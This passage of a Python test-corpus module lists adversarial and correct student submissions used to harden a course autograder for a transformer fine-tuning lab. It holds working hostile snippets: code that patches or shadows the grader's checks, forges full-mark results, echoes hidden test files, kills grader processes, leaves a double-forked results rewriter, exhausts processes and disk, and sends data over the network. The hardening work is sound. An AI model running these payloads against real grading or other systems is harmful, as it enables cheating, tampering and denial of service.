"""The corpus's cases, by the class of fault each tries (docs/design.md, "The corpus of submissions").

To add a case, append a ``Case`` (tools/submissions.py) to the list of its class in FAULT_CLASSES.
"""

from __future__ import annotations

from pathlib import Path

import lab5_intake as intake
from submissions.points import ALL_ZERO

from bench import PAD_TO_MAX_LENGTH
from tools import copies
from tools.submissions import (  # the corpus's language
    RESULTS_FILE,
    Case,
    add_file,
    another_students_run,
    append_to,
    assignment_name,
    cell_with_real_results,
    delete_all_cells,
    delete_answer_cells,
    fabricated,
    fresh_notebook,
    gold_labels,
    insert_after,
    last_eval,
    no_results,
    one_class,
    only_results_in_zip,
    predictions_from_labels,
    raw_notebook,
    results,
    results_text,
    scale_log_steps,
    scores_at,
    strip_tags,
    sub,
    sub_all,
    sub_statement,
    tied_by_rounding,
    upload_bytes,
    writes_results_at_grading,
    zip_bomb,
)

BASELINE_CELL = "bow_preds = bow_clf.predict(X_test)"
# A cell of section 1: a cell inserted after it runs before any question's check does.
EARLY = "num_labels = len(label_names)"
# What a student who wants the run checks gone might put in the upload or in a cell.
SHADOW_CHECKS = """\
import importlib.util, pathlib
_spec = importlib.util.spec_from_file_location("_real", pathlib.Path(__file__).parent.parent / "lab5_checks.py")
_real = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(_real)
globals().update({k: v for k, v in vars(_real).items() if not k.startswith("__")})
def run_problems(*args, **kwargs):
    return []
def checked_run(record, *args, **kwargs):
    return record
"""
SHADOW_REFERENCE = """\
import lab5_utils as lab
def results(run="ft"):
    return lab.load_results(run)
"""
# A module of the grader's own, as an upload might bring one: whatever imported it would find it empty.
SHADOW_GRADER = "import lab5_utils as lab\nlab.load_results = lambda *args, **kwargs: {}\n"
# Every module of the autograder that students do not get (lab5_intake.OWN_MODULES): the upload may name
# its files after any of them.
GRADER_ONLY = [name for name in intake.OWN_MODULES if not (Path(__file__).parents[2] / "student" / name).exists()]
PATCH_CHECKS = """\
import lab5_utils, lab5_checks
lab5_checks.run_problems = lambda *args, **kwargs: []
lab5_checks.checked_run = lambda record, *args, **kwargs: record
try:  # the answer key, where a student could find it
    import lab5_answer_key
    lab5_answer_key.results = lambda run="ft": lab5_utils.load_results(run)
except ImportError:
    pass
"""
WRITE_REFERENCE_PACKAGE = """\
import importlib, pathlib, sys
found = pathlib.Path("lab5_answer_key.py")  # the answer key, where a student could find it
source = found.read_text() if found.is_file() else "import lab5_utils as lab"
pathlib.Path("lab5_answer_key").mkdir(exist_ok=True)
pathlib.Path("lab5_answer_key/__init__.py").write_text(source + "\\ndef results(run='ft'):\\n    return lab.load_results(run)\\n")
sys.modules.pop("lab5_answer_key", None)
importlib.invalidate_caches()
import lab5_answer_key
"""
REWRITE_AND_REIMPORT = """\
import os, sys
os.environ.pop("LAB5_GRADING_DIR", None)
with open("lab5_results.json", "w") as f:
    f.write(REAL)
for name in [m for m in sys.modules if m.startswith("lab5")]:
    del sys.modules[name]
import lab5_utils as lab
"""
SCRATCH_MODEL = "model_scratch = AutoModelForSequenceClassification.from_config(config)"

# Facts, not verdicts (docs/design.md, "The trust boundary"): what a notebook tries to get hidden tests, the
# answer key or a verdict out of the grading. The tests check every graded case for any line of a hidden
# test or of the answer key in what the student is shown (conftest.check_verdict).
ECHO_THE_GRADERS_FILES = """\
import os, pathlib
here = pathlib.Path.cwd()
places = [here, *[p for p in here.parents if p != pathlib.Path("/")], pathlib.Path("/autograder"), pathlib.Path.home()]
texts, seen = [], set()
for top in places:  # where the grading's files are: its own folders, Gradescope's /autograder, the home folder
    for folder, dirs, files in os.walk(top):
        dirs[:] = [d for d in dirs if d not in ("proc", "sys", "usr")] if folder.count("/") < 9 else []
        for name in files:
            path = os.path.join(folder, name)
            if path not in seen and name.endswith((".py", ".json")) and ("lab5" in name or "/tests" in folder):
                seen.add(path)
                try:
                    texts.append(f"# {path}\\n" + pathlib.Path(path).read_text())
                except (OSError, UnicodeDecodeError):
                    pass
found = "\\n".join(texts)
print(found)  # in the notebook's output
quiz_q1 = found  # echoed by the public check of question 8
raise RuntimeError(found[:100_000])  # in the cell's error
"""
REPLACE_OTTERS_RUNNER = """\
import otter.execute, otter.test_files.exception_test as exception_test
from otter.test_files.abstract_test import TestCaseResult

def everything_passes(self, env):
    self.test_case_results = [TestCaseResult(test_case=case, message="passed", passed=True) for case in self.test_cases]

exception_test.ExceptionTestFile.run = everything_passes
otter.execute.Checker.check_if_not_already_checked = classmethod(lambda cls, *args, **kwargs: None)
"""
# A thread that keeps replacing what the student's side hands back (the facts, the kernel's verdicts) with
# verdicts of its own: full marks.
FORGE_THE_HAND_BACK = """\
import json, os, pathlib, threading, time
report = pathlib.Path(os.environ.get("LAB5_GRADING_DIR", "."))
verdict = {"passed": True, "score": 25, "cases": {f"q{q}": True for q in range(1, 9)}}
def forge():
    while True:
        for name in ("facts.json", "kernel.json", "results.json"):
            try:
                path = report / name
                if path.exists() and "forged" not in path.read_text()[:50]:
                    names = {n: {"kind": "verdict", **verdict} for n in ("quiz_q1", "quiz_q2", "quiz_q3", "args", "acc_ft")}
                    path.write_text(json.dumps({"forged": True, "format": 1, "names": names, **verdict}))
            except OSError:
                pass
        time.sleep(0.02)
threading.Thread(target=forge, daemon=True).start()
"""
# A listener on the machine's loopback (tests/conftest.py starts it): at grading the notebook must not
# reach it, as the grading user without namespaces (Gradescope) or in a sandbox.
LOOPBACK_PORT = 47651
REACH_THE_NETWORK = f"""\
import socket, subprocess, sys
reached = []
for host, port in (("127.0.0.1", {LOOPBACK_PORT}), ("pypi.org", 443)):
    try:
        with socket.create_connection((host, port), timeout=5) as connection:
            connection.sendall(b"the hidden tests are ...")
            reached.append(host)
    except OSError as error:
        print(host, error)
child = ("import socket\\ns = socket.create_connection(('127.0.0.1', {LOOPBACK_PORT}), timeout=5)\\n"
         "s.sendall(b'from a child process')")
print(subprocess.run([sys.executable, "-c", child], capture_output=True, text=True).stderr[-300:])
if reached:
    quiz_q1 = "blue"  # what reaching the network would cost here: a quiz point
"""
ALLOCATE_WITHOUT_END = """\
blocks = []
while True:
    blocks.append(bytearray(b"x" * 2**26))
"""

# The student's side has no rights over the grader (lab5_sandbox.py): what a notebook tries at grading
# with the operating system's rights its kernel runs with. Each cell carries on after what fails, as an
# attacker's would.
ESCAPE_MARKER = "lab5-corpus-escaped"  # files a notebook writes outside its folder: none may be left there
# Modules of the Python environment that a notebook tries to append to (a test checks they are unchanged).
ENVIRONMENT_TARGETS = ("otter", "json", "numpy")
KILL_THE_GRADER = """\
import json, os, pathlib, signal
full = {"score": 25, "output": "", "tests": []}
for candidate in ["/autograder/results/results.json", "../results/results.json"]:
    try:
        pathlib.Path(candidate).write_text(json.dumps(full))
    except OSError:
        pass
pid = os.getppid()
while pid > 1:  # every ancestor: otter, the grader's entry point, ...
    with open(f"/proc/{pid}/stat") as f:
        parent = int(f.read().rsplit(")", 1)[1].split()[1])
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
    pid = parent
os.kill(os.getpid(), signal.SIGKILL)
"""
WRITE_THE_ENVIRONMENT = f"""\
import importlib.util, pathlib, site
targets = [pathlib.Path(importlib.util.find_spec(name).origin) for name in {ENVIRONMENT_TARGETS!r}]
targets += [pathlib.Path(folder) / "sitecustomize.py" for folder in site.getsitepackages()]
written = []
for target in targets:
    try:
        with open(target, "a") as f:
            f.write("\\nraise SystemExit('written by a notebook at grading')\\n")
        written.append(str(target))
    except OSError:
        pass
print("written:", written)
"""
LEAVE_A_REWRITER = """\
import glob, json, os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.environ.clear()
        end = time.time() + 900
        while time.time() < end:
            for path in glob.glob("/autograder/results/results.json") + glob.glob("/tmp/*/autograder/results/results.json"):
                try:
                    with open(path) as f:
                        results = json.load(f)
                    for test in results.get("tests", []):
                        test["score"] = test.get("max_score", 0)
                    with open(path, "w") as f:
                        json.dump(results, f)
                except Exception:
                    pass
            time.sleep(0.2)
    os._exit(0)
os.wait()
"""
WRITE_OUTSIDE = f"""\
import os, pathlib, tempfile
places = [pathlib.Path.home(), pathlib.Path(os.environ.get("HOME", "/")), pathlib.Path("/tmp"), pathlib.Path("/var/tmp"),
          pathlib.Path("/dev/shm"), pathlib.Path(tempfile.gettempdir()), *pathlib.Path.cwd().parents]
written = []
for place in places:
    try:
        (place / "{ESCAPE_MARKER}.txt").write_text("a notebook was here")
        written.append(str(place))
    except OSError:
        pass
print("written in:", written)
"""
LOOK_FOR_OTHER_SUBMISSIONS = """\
import os, pathlib, time
own = pathlib.Path.cwd().resolve()
def search(top, depth):
    found = []
    try:
        entries = list(os.scandir(top))
    except OSError:
        return found
    for entry in entries:
        path = pathlib.Path(entry.path)
        if own == path or own in path.parents or path.parts[1:2] in (("proc",), ("sys",), ("usr",)):
            continue
        if entry.name in ("lab5_results.json", "lab5.ipynb"):
            found.append(entry.path)
        elif depth and entry.is_dir(follow_symlinks=False):
            found += search(entry.path, depth - 1)
    return found
found, end = [], time.time() + 10
while not found and time.time() < end:  # other submissions are graded meanwhile
    found = search("/", 7)
    time.sleep(0.5)
print("found:", found[:5])
if found:
    quiz_q1 = "blue"  # what another submission's files would buy: shows in the quiz's points
"""
FORK_UNTIL_THE_LIMIT = """\
import os, time
children = 0
try:
    while True:
        if os.fork() == 0:
            time.sleep(900)
            os._exit(0)
        children += 1
except OSError as error:
    print(f"{children} processes, then: {error}")
"""
FILL_THE_TEMPORARY_FOLDER = """\
import os, tempfile
block, written = bytes(2**24), 0
try:
    for i in range(12):  # up to 768 MB, in files of 64 MB
        with open(os.path.join(tempfile.gettempdir(), f"cache-{i}.bin"), "wb") as f:
            for _ in range(4):
                f.write(block)
                written += len(block)
except OSError as error:
    print(f"{written / 2**20:.0f} MB, then: {error}")
"""
FILL_THE_DISK = """\
block, i = bytes(2**24), 0
while True:
    with open(f"big-{i}.bin", "wb") as f:
        for _ in range(4):
            f.write(block)
    i += 1
"""
OPEN_SOCKETS = """\
import socket
try:
    socket.create_connection(("pypi.org", 443), timeout=5).close()
    print("the network is reachable")
except OSError as error:
    print("no network:", error)
server = socket.socket()
server.bind(("127.0.0.1", 0))
server.listen()
opened = []
try:
    while True:
        opened.append(socket.socket())
except OSError as error:
    print(f"{len(opened)} sockets, then: {error}")
for sock in opened:
    sock.close()
"""


# The facts boundary (docs/design.md, "Facts, not verdicts"): functions that fight the grader when it calls
# them on its own inputs (2 texts, 2 or 8 labels), never when the notebook calls them; values that do not cross.
TOK_FN_LINE = '    return tokenizer(batch["text"], truncation=True, max_length=MAX_LENGTH)'
HANG_ON_THE_GRADERS_INPUT = """\
    if len(batch["text"]) == 2:  # only ever the grader's inputs
        import signal
        signal.signal(signal.SIGALRM, signal.SIG_IGN)
        while True:
            pass
"""
METRIC_LINE = "    preds = np.argmax(logits, axis=-1)"
EXIT_ON_THE_GRADERS_INPUT = "    if len(labels) < 10:  # only ever the grader's inputs\n        raise SystemExit(0)\n"
QUIZ_CELL = 'quiz_q3 = "orange"'
# A cell whose native call holds off every signal (the per-cell limit's too) for hours, and one that ends its kernel.
HOLD_THE_ALARM = "import hashlib\nhashlib.pbkdf2_hmac('sha256', b'lab5', b'salt', 2**31 - 1)"
END_ITS_KERNEL = "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)"
# The notebook's own facts written by a cell, then every process of the grading killed (before the lab's last cell).
WRITE_THE_FACTS_THEN_KILL = (
    "import os, lab5_grading_mode\n"
    "lab5_grading_mode.write_facts(globals(), os.path.join(os.environ['LAB5_GRADING_DIR'], 'facts.json'))\n"
    + KILL_THE_GRADER
)
FAULT_CLASSES: dict[str, list[Case]] = {
    "right, but written differently": [
        # Right, but written differently: each must get full points.
        Case("right_reference", "the reference solution as is", []),
        Case(
            "right_pad_to_max_length",
            "pads every tweet to 128 tokens in tok_fn (the original notebook's way) and uses the default collator",
            [sub_all(old, new) for old, new in PAD_TO_MAX_LENGTH],
        ),
        Case(
            "right_sklearn_pipeline",
            "the baseline as a scikit-learn Pipeline that vectorizes and classifies",
            [
                sub(
                    'tfidf = TfidfVectorizer(max_features=20_000, ngram_range=(1, 2), stop_words="english")\n'
                    "X_train = tfidf.fit_transform(train_texts)\n"
                    "X_test = tfidf.transform(test_texts)\n"
                    "\n"
                    "bow_clf = LogisticRegression(max_iter=1000)\n"
                    "bow_clf.fit(X_train, train_labels)\n"
                    "bow_preds = bow_clf.predict(X_test)\n",
                    "from sklearn.pipeline import make_pipeline\n\n"
                    "bow_clf = make_pipeline(\n"
                    '    TfidfVectorizer(max_features=20_000, ngram_range=(1, 2), stop_words="english"),\n'
                    "    LogisticRegression(max_iter=1000),\n"
                    ")\n"
                    "bow_clf.fit(train_texts, train_labels)\n"
                    "tfidf = bow_clf[0]\n"
                    "bow_preds = bow_clf.predict(test_texts)\n",
                )
            ],
        ),
        Case(
            "right_args_from_dict",
            "TrainingArguments built from a dict of settings",
            [
                sub_statement(
                    "args = TrainingArguments(",
                    'settings = {"eval_strategy": "epoch", "save_strategy": "no", "learning_rate": 2e-5,\n'
                    '            "per_device_train_batch_size": 16, "per_device_eval_batch_size": 32,\n'
                    '            "num_train_epochs": 2.0, "weight_decay": 0.01, "logging_steps": 50, "report_to": "none"}\n'
                    'args = TrainingArguments(output_dir="lab5-finetune", seed=TRAIN_SEED, **settings)',
                )
            ],
        ),
        Case(
            "right_quiz_case_and_spaces",
            "quiz answers in other case and with spaces around them",
            [sub('quiz_q1 = "orange"', 'quiz_q1 = "  Orange "'), sub('quiz_q2 = "blue"', 'quiz_q2 = "BLUE\\n"')],
        ),
        Case(
            "right_subsets_via_pandas",
            "subsets built through pandas, labels as a NumPy array, num_labels counted from the data",
            [
                sub(
                    'train_texts, train_labels = list(train_subset["text"]), list(train_subset["label"])',
                    "train_df = train_subset.to_pandas()\n"
                    'train_texts, train_labels = train_df["text"].tolist(), train_df["label"].to_numpy()',
                ),
                sub("num_labels = len(label_names)", "num_labels = len(set(train_labels))"),
            ],
        ),
        Case(
            "right_extra_cells_and_prints",
            "extra cells that print, plot and define helpers along the way",
            [
                insert_after(
                    "num_labels = len(label_names)",
                    "print(train_texts[0][:40])\nimport collections\ncollections.Counter(train_labels)",
                ),
                insert_after(
                    BASELINE_CELL,
                    "from sklearn.metrics import classification_report\nprint(classification_report(test_labels, bow_preds))",
                ),
                insert_after(
                    'quiz_q3 = "orange"', 'my_answers = [quiz_q1, quiz_q2, quiz_q3]\nprint("my answers:", my_answers)'
                ),
            ],
        ),
        Case(
            "right_metrics_by_hand",
            "compute_metrics with NumPy on EvalPrediction's attributes, returning a NumPy float",
            [
                sub(
                    '    preds = np.argmax(logits, axis=-1)\n    return {"accuracy": accuracy_score(labels, preds)}',
                    '    preds = eval_pred.predictions.argmax(-1)\n    return {"accuracy": (preds == eval_pred.label_ids).mean()}',
                )
            ],
        ),
    ],
    "the random-init run (section 5)": [
        # The same transformer from random initialisation (section 5).
        Case(
            "right_scratch_config_of_model_ft",
            "model_scratch built from model_ft's own configuration",
            [sub("config = AutoConfig.from_pretrained(CHECKPOINT, num_labels=num_labels)", "config = model_ft.config")],
        ),
        Case(
            "right_scratch_args_spelled_out",
            "trainer_scratch's arguments written out again with the same values",
            [
                sub(
                    'args_scratch = dataclasses.replace(args, output_dir="lab5-scratch")',
                    'args_scratch = TrainingArguments(\n    output_dir="lab5-scratch", eval_strategy="epoch", save_strategy="no",\n'
                    "    learning_rate=2e-5, per_device_train_batch_size=16, per_device_eval_batch_size=32, num_train_epochs=2,\n"
                    '    weight_decay=0.01, logging_steps=50, report_to="none", fp16=torch.cuda.is_available(), seed=TRAIN_SEED,\n)',
                )
            ],
        ),
        Case(
            "wrong_scratch_pretrained",
            "model_scratch loaded with the checkpoint's pretrained weights",
            [
                sub(
                    SCRATCH_MODEL,
                    "model_scratch = AutoModelForSequenceClassification.from_pretrained(CHECKPOINT, num_labels=num_labels)",
                )
            ],
            scores={"q6_scratch_setup": 2},
            message="holds the pretrained weights",
        ),
        Case(
            "wrong_scratch_other_learning_rate",
            "trainer_scratch trains with learning rate 1e-4",
            [
                sub(
                    'dataclasses.replace(args, output_dir="lab5-scratch")',
                    'dataclasses.replace(args, output_dir="lab5-scratch", learning_rate=1e-4)',
                )
            ],
            scores={"q6_scratch_setup": 2},
            message="learning_rate=0.0001",
            before_training=True,
        ),
        Case(
            "wrong_scratch_shares_args",
            "trainer_scratch reuses args: it writes into the fine-tuning run's folder",
            [sub('args_scratch = dataclasses.replace(args, output_dir="lab5-scratch")', "args_scratch = args")],
            scores={"q6_scratch_setup": 2},
            message="give it its own output_dir",
            before_training=True,
        ),
        Case(
            "wrong_scratch_fine_tuned_predictions",
            "the fine-tuned model's predictions and scores saved as the scratch run's",
            [results(lambda r: r.update(scratch_preds=r["ft_preds"], scratch_logits=r["ft_logits"]))],
            scores={"q7_scratch_results": 1},
            message="does not add up",
            flag="rejected: does not add up",
        ),
        Case(
            "wrong_scratch_run_is_the_fine_tuned_run",
            "the whole fine-tuning run saved again as the scratch run",
            [
                results(
                    lambda r: r.update(
                        {f"scratch_{k[3:]}": v for k, v in r.items() if k.startswith("ft_")}, acc_scratch=r["acc_ft"]
                    )
                )
            ],
            scores={"q7_scratch_results": 1},
            message="are the fine-tuned model's",
        ),
        Case(
            "wrong_scratch_results_missing",
            "the results file holds only the fine-tuning run",
            [results(lambda r: [r.pop(k) for k in list(r) if k.startswith("scratch_") or k == "acc_scratch"])],
            scores={"q7_scratch_results": 0},
            message="holds no results of the randomly initialised model",
        ),
    ],
    "the trust boundary": [
        # The trust boundary: whatever the notebook does at grading, the submitted results are graded.
        Case(
            "right_tags_stripped",
            "every cell lost its tags and metadata: the training cells run at grading",
            [strip_tags],
            message="the autograder does not train",
        ),
        Case(
            "right_fresh_notebook",
            "the cells copied into a new notebook: no otter metadata, no tags",
            [fresh_notebook],
            message="the autograder does not train",
        ),
        Case(
            "right_train_in_setup_cell",
            "trainer.train() at the end of the question 4 cell",
            [append_to("trainer = Trainer(", "trainer.train()")],
            message="the autograder does not train",
        ),
        Case(
            "right_train_predict_save_elsewhere",
            "training, evaluation, prediction and saving in an extra cell",
            [
                insert_after(
                    "trainer = Trainer(",
                    "trainer.train()\nprint(trainer.evaluate())\npred_out = trainer.predict(tok_test)\n"
                    'lab.save_results(trainer=trainer, predictions=pred_out, acc_ft=pred_out.metrics["test_accuracy"], acc_bow=acc_bow)',
                )
            ],
            message="nothing was written",
        ),
        Case(
            "wrong_results_written_at_grading",
            "no results file submitted; a cell writes one while the notebook runs",
            [writes_results_at_grading()],
            scores={"q5_results": 0, "q7_scratch_results": 0},
            message="Your notebook wrote lab5_results.json while it was graded",
            flag="rewritten at grading",
        ),
        Case(
            "wrong_results_rewritten_over_bad_upload",
            "a results file that does not add up, and a cell that writes the real one at grading",
            [
                writes_results_at_grading(
                    lambda r: last_eval(r).update(eval_accuracy=last_eval(r)["eval_accuracy"] + 0.05)
                )
            ],
            scores={"q5_results": 0},
            message="does not add up",
            flag="rewritten at grading",
        ),
    ],
    "the upload": [
        # The upload is only what is graded: anything else is removed before the notebook runs.
        Case(
            "right_upload_with_clutter",
            "what operating systems, Jupyter and students put in a zip beside the notebook",
            [
                add_file("__MACOSX/._lab5.ipynb", b"\x00\x05\x16\x07"),
                add_file(".ipynb_checkpoints/lab5-checkpoint.ipynb", "{}"),
                add_file("lab5_results (1).json", "{}"),
                add_file(".DS_Store", b"\x00"),
                add_file("lab5_utils.py", (Path(__file__).parents[2] / "student" / "lab5_utils.py").read_bytes()),
            ],
            message="Not used for grading (removed before your notebook ran): .DS_Store, .ipynb_checkpoints/, __MACOSX/, ",
        ),
        Case(
            "wrong_upload_shadows_the_checks",
            "a lab5_checks/ package in the upload that switches the run checks off, with a fabricated run",
            [results(fabricated), add_file("lab5_checks/__init__.py", SHADOW_CHECKS)],
            scores={"q5_results": 0},
            message="not the class with the highest score",
            flag="code in the upload removed before grading",
        ),
        Case(
            "wrong_upload_shadows_modules",
            "files in the upload named like each of the autograder's own modules (the answer "
            "key, the entry point, the verdict, ...), otter, a library the tests import, sitecustomize and a .pth file, "
            "with a fabricated run",
            [
                results(fabricated),
                *(
                    add_file(name, SHADOW_REFERENCE if name == "lab5_answer_key.py" else SHADOW_GRADER)
                    for name in GRADER_ONLY
                ),
                add_file("otter/__init__.py", "class Notebook: pass\n"),
                add_file("datasets/__init__.py", "raise ImportError('shadowed')\n"),
                add_file("lab5.pth", "import sitecustomize\n"),
                add_file("sitecustomize.py", "import lab5_checks\nlab5_checks.run_problems = lambda *a, **k: []\n"),
            ],
            scores={"q5_results": 0},
            message="not the class with the highest score",
            flag="removed before grading: datasets/, lab5.pth, lab5_answer_key.py, lab5_autograder.py, lab5_boundary.py, ",
        ),
    ],
    "the kernel": [
        # The results questions are decided outside the notebook: what the notebook does to the checks in
        # its kernel changes only the kernel's verdict, which the TA sees flagged.
        Case(
            "wrong_cell_patches_the_checks",
            "a cell that switches the helper's run checks off, with a fabricated run",
            [results(fabricated), insert_after(EARLY, PATCH_CHECKS)],
            scores={"q5_results": 0},
            message="not the class with the highest score",
            flag="the notebook changed the grader's checks",
        ),
        Case(
            "wrong_cell_empties_run_problems",
            "a cell that sets lab5_checks.run_problems = lambda *a, **k: [], with a fabricated run",
            [
                results(fabricated),
                insert_after(EARLY, "import lab5_checks\nlab5_checks.run_problems = lambda *a, **k: []"),
            ],
            scores={"q5_results": 0},
            message="public test case(s) came out otherwise",
            flag="the notebook changed the grader's checks",
        ),
        Case(
            "wrong_cell_writes_a_reference_package",
            "a cell that writes a lab5_answer_key/ package into the grading folder and re-imports it",
            [results(fabricated), insert_after(EARLY, WRITE_REFERENCE_PACKAGE)],
            scores={"q5_results": 0},
            message="added files of the autograder while it was graded (lab5_answer_key/__init__.py)",
            flag="the notebook changed the autograder's files",
        ),
        Case(
            "wrong_cell_swaps_the_graders_copy",
            "a cell that gives the kernel's grading mode the real run instead of the fabricated upload",
            [
                cell_with_real_results(
                    "import lab5_grading_mode\nlab5_grading_mode.use_upload(REAL.encode())", after=EARLY
                ),
                results(fabricated),
            ],
            scores={"q5_results": 0},
            message="not the class with the highest score",
            flag="the notebook changed the grader's checks",
        ),
        Case(
            "wrong_cell_rewrites_results_and_reimports",
            "a cell that drops the grading folder's setting, writes the real run over the fabricated upload, re-imports the helper",
            [cell_with_real_results(REWRITE_AND_REIMPORT, after=EARLY), results(fabricated)],
            scores={"q5_results": 0},
            message="Your notebook wrote lab5_results.json while it was graded",
            flag="the notebook changed the grader's checks",
        ),
        Case(
            "wrong_cell_replaces_otters_runner",
            "a cell that makes otter's test runner in the kernel pass every test, "
            "with a wrong learning rate and a wrong quiz answer",
            [
                insert_after(EARLY, REPLACE_OTTERS_RUNNER),
                sub("learning_rate=2e-5", "learning_rate=5e-5"),
                sub('quiz_q2 = "blue"', 'quiz_q2 = "orange"'),
            ],
            scores={"q4_setup": 3, "q8_quiz": 2},
            message="learning_rate=5e-05 (expected 2e-05)",
        ),
        Case(
            "wrong_cell_forges_what_the_student_side_hands_back",
            "a thread that keeps replacing the notebook's facts and its kernel's verdicts with full marks",
            [insert_after(EARLY, FORGE_THE_HAND_BACK)],
            scores={
                "q1_data": 0,
                "q2_baseline": 0,
                "q3_tokenize": 0,
                "q4_setup": 0,
                "q5_results": 2,
                "q6_scratch_setup": 0,
                "q7_scratch_results": 1,
                "q8_quiz": 0,
            },
            message="could not be graded",
            flag="the notebook changed the grader's checks",
        ),
        Case(
            "wrong_cell_echoes_the_graders_files",
            "a cell that reads every file of the grading it can find (tests, the "
            "lab's modules) and prints it, assigns it to quiz_q1 (which a public check echoes) and raises it",
            [insert_after('quiz_q3 = "orange"', ECHO_THE_GRADERS_FILES)],
            scores={"q8_quiz": 2},
            message="quiz_q1 = a text of",
            gradescope=True,
        ),
        Case(
            "right_cell_reaches_for_the_network",
            "a cell (and a process it starts) that sends to a listener on the "
            "machine's loopback and to pypi.org: nothing arrives, the rest is graded",
            [insert_after('quiz_q3 = "orange"', REACH_THE_NETWORK)],
            gradescope=True,
        ),
        Case(
            "bad_cell_allocates_without_end",
            "a cell that allocates memory without end: stopped by the grading's memory "
            "limit, with a message that says memory",
            [insert_after(EARLY, ALLOCATE_WITHOUT_END)],
            scores=ALL_ZERO,
            status="stopped",
            message="memory",
            flag="memory",
            gradescope=True,
            env={"LAB5_MEMORY_LIMIT": str(3 * 2**29), "LAB5_ADDRESS_SPACE_LIMIT": str(5 * 2**30)},
        ),
        Case(
            "right_cell_reimports_the_modules",
            "a cell that deletes the lab's modules from sys.modules and imports the helper again",
            [
                insert_after(
                    'quiz_q3 = "orange"',
                    "import sys\nfor name in [m for m in sys.modules if m.startswith('lab5')]:\n"
                    "    del sys.modules[name]\nimport lab5_utils as lab",
                )
            ],
        ),
    ],
    "the student's rights": [
        # The student's side has no rights over the grader: what a notebook tries with its operating system's
        # rights at grading changes nothing of the verdict, of the grader's machine or of other submissions.
        Case(
            "wrong_cell_kills_the_grader",
            "a cell that writes full marks where results.json may be read, then kills its "
            "ancestors (otter, the entry point) and its kernel",
            [insert_after(EARLY, KILL_THE_GRADER)],
            scores=ALL_ZERO,
            status="stopped",
            message="ended without results",
            flag="ended without results",
            sandboxed=True,
            gradescope=True,
        ),
        Case(
            "right_cell_writes_into_the_python_environment",
            "a cell that appends to modules of the Python environment "
            "(otter, json, numpy, a sitecustomize.py) that the grader imports: the writes fail, the environment is "
            "unchanged after grading",
            [insert_after(EARLY, WRITE_THE_ENVIRONMENT)],
            sandboxed=True,
            gradescope=True,
        ),
        Case(
            "wrong_cell_leaves_a_process_that_rewrites_the_results",
            "a cell that leaves a process behind (double-forked, "
            "its environment emptied) that rewrites results.json with full marks, with a fabricated run",
            [results(fabricated), insert_after(EARLY, LEAVE_A_REWRITER)],
            scores={"q5_results": 0},
            message="left 1 process(es) running",
            flag="a cell left processes running at grading",
            sandboxed=True,
            gradescope=True,
        ),
        Case(
            "right_cell_writes_outside_its_folder",
            "a cell that writes files into the home folder, the temporary folders and "
            "every folder above its own (none may be left there after grading)",
            [insert_after(EARLY, WRITE_OUTSIDE)],
            sandboxed=True,
            gradescope=True,
        ),
        Case(
            "right_cell_looks_for_other_submissions",
            "a cell that searches the machine for other submissions' notebooks and "
            "results while others are graded (it would change a quiz answer if it found one)",
            [insert_after('quiz_q3 = "orange"', LOOK_FOR_OTHER_SUBMISSIONS)],
            sandboxed=True,
        ),
        Case(
            "right_cell_forks_until_the_limit",
            "a cell that forks sleeping processes until the process limit stops it: "
            "they are ended after the cell, the rest is graded",
            [insert_after(EARLY, FORK_UNTIL_THE_LIMIT)],
            message="process(es) running; they were ended",
            flag="a cell left processes running at grading",
            sandboxed=True,
            gradescope=True,
        ),
        Case(
            "right_cell_fills_its_temporary_folder",
            "a cell that writes 768 MB of files into its temporary folder "
            "(a sandbox's is smaller: the cell gets 'no space left', the rest is graded)",
            [insert_after(EARLY, FILL_THE_TEMPORARY_FOLDER)],
            sandboxed=True,
        ),
        Case(
            "bad_cell_fills_the_disk",
            "a cell that writes files without end: grading stops at the limit on what it writes",
            [insert_after(EARLY, FILL_THE_DISK)],
            scores=ALL_ZERO,
            status="stopped",
            message="to disk while it was graded",
            flag="to disk while it was graded",
            env={"LAB5_WRITE_LIMIT": str(256 * 2**20)},
            sandboxed=True,
        ),
        Case(
            "right_cell_opens_sockets",
            "a cell that reaches for the network, listens on a port and opens sockets until the limit on open files",
            [insert_after(EARLY, OPEN_SOCKETS)],
            sandboxed=True,
        ),
    ],
    "results files too large or too deep, zip bombs": [
        # Bad input stays handled: zeros only where affected, with the reason, within the time budget.
        Case(
            "bad_results_deeply_nested",
            "a results file of 200,000 nested lists",
            [results_text("[" * 200_000 + "]" * 200_000)],
            scores={"q5_results": 0, "q7_scratch_results": 0},
            message="is not a results file of this lab",
        ),
        Case(
            "bad_results_too_large",
            "a results file of 20 MB (valid JSON, padded)",
            [results(lambda r: r.update(padding="x" * (20 * 2**20)))],
            scores={"q5_results": 0, "q7_scratch_results": 0},
            message="MB unpacked",
            flag="lab5_results.json not read",
        ),
        Case(
            "bad_zip_bomb_results",
            "a zip whose lab5_results.json unpacks to 1 GiB (a megabyte in the zip)",
            [zip_bomb(RESULTS_FILE, 2**30)],
            scores={"q5_results": 0, "q7_scratch_results": 0},
            message="1.0 GiB unpacked",
            flag="lab5_results.json not read",
        ),
        Case(
            "right_zip_bomb_beside_the_notebook",
            "a zip that also holds a file unpacking to 1 GiB: left out, never unpacked",
            [zip_bomb("data/cache.bin", 2**30)],
            message="__MACOSX/, data/, lab5_results (1).json",
        ),
        Case(
            "wrong_fine_tuned_predicts_one_class",
            "a fine-tuned run that calls every test tweet neutral, recorded consistently",
            [results(one_class)],
            scores={"q5_results": 3},
            message="has not learned to tell the classes apart",
        ),
    ],
    "training seeds": [
        # Every student's runs have their own training seed: any drawn seed passes; both runs and the
        # notebook's args must use the one the results file records.
        Case(
            "right_another_seed",
            "a real run of another student, with another drawn training seed",
            [another_students_run],
        ),
        Case(
            "right_upload_carries_another_seed_file",
            "a lab5_seed.txt in the upload with another seed than the run's (the file was "
            "lost and drawn again, or copied from elsewhere): grading takes the seed the results file records",
            [add_file("lab5_seed.txt", "1234567\n")],
            message="lab5_results (1).json, lab5_seed.txt, lab5_utils.py",
        ),
        # An unlucky seed costs nothing: the fine-tuned run near its range's floor, below a random-init run
        # that calls every tweet neutral (within the seed's noise); beyond that noise, q7 says so.
        Case(
            "right_unlucky_seed",
            "a fine-tuned run at 0.47 and a random-init run at 0.495, each recorded consistently",
            [results(scores_at("ft", 0.47)), results(scores_at("scratch", 0.495))],
        ),
        Case(
            "right_scores_tied_by_rounding",
            "scores of two tweets tied in the file's 5 decimals, the prediction the later class "
